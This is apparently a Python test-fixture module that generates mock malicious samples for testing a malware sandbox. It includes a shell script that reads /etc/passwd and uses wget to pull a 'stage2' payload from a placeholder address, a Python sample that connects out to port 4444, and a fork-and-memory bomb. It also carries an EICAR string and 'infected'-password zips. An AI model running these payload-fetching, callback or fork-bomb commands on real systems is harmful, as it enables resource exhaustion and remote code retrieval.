"""Harmless samples that the tests write themselves."""

import io
import shutil
from pathlib import Path

import pyzipper

CANARY = "/var/tmp/left-behind-by-an-earlier-sample"
DROPPED = "written by the sample\n"
ZIP_PASSWORD = "infected"

DEMO = f"""#!/bin/sh
# A harmless demonstration: writes files, starts a child, reads a file, tries the network.
[ -e {CANARY} ] && echo "found what an earlier sample left" > /tmp/not-clean
echo "canary" > {CANARY}
printf 'written by the sample\\n' > /tmp/dropped.txt
(sleep 0.2; echo child > /tmp/child.txt) &
cat /etc/passwd > /dev/null
wget -q -T 2 -t 1 -O /tmp/stage2 http://192.0.2.10/stage2 || true
wait
"""

PYTHON = """#!/usr/bin/env python3
import os, socket, subprocess
with open("/tmp/from-python.bin", "wb") as target:
    target.write(bytes(range(256)))
subprocess.run(["/bin/echo", "hello from a child"], check=True)
try:
    socket.create_connection(("192.0.2.20", 4444), timeout=2)
except OSError:
    pass
"""

BOMB = """#!/usr/bin/env python3
# Takes what it can get of its machine: processes without end, and memory until there is none. Harmless to anybody else.
import os, time
held = []
for _ in range(4):
    if os.fork() == 0:
        break
else:
    while True:
        try:
            held.append(bytearray(os.urandom(1 << 20)))
        except MemoryError:
            time.sleep(0.1)
while True:
    try:
        os.fork()
    except OSError:
        pass
"""


def eicar() -> bytes:
    """The EICAR test string, put together here so that no file of the project holds it."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"


def write(path: Path, content: str | bytes) -> Path:
    """The file holds the content."""
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def eicar_zip(path: Path) -> Path:
    """A zip, encrypted with the customary password, of the EICAR string and a text."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(ZIP_PASSWORD.encode())
        archive.writestr("readme.txt", b"nothing to see\n")
        archive.writestr("eicar.com", eicar())
    return write(path, buffer.getvalue())


def debian_elf(path: Path) -> Path:
    """A program of Debian's: `id`, under another name."""
    shutil.copyfile("/usr/bin/id", path)
    return path


def corrupted_elf(path: Path) -> Path:
    """An ELF header with nothing behind it that could run."""
    content = bytearray(Path("/usr/bin/id").read_bytes()[:4096])
    content[18] = 0xF7  # e_machine of no machine we have
    return write(path, bytes(content))


def several(path: Path) -> Path:
    """A ZIP archive of two scripts, one of which holds the EICAR string, a nested archive, a text and a duplicate."""
    inner = io.BytesIO()
    with pyzipper.AESZipFile(inner, "w") as archive:
        archive.writestr("inner.py", PYTHON)
    first = b"#!/bin/sh\n# " + eicar() + b"\ntrue\n"
    with pyzipper.AESZipFile(path, "w") as archive:
        archive.writestr("first.sh", first)
        archive.writestr("bin/second.sh", "#!/bin/sh\n/bin/echo second\n")
        archive.writestr("inner.zip", inner.getvalue())
        archive.writestr("readme.txt", "nothing to run\n")
        archive.writestr("again.sh", first)
    return path
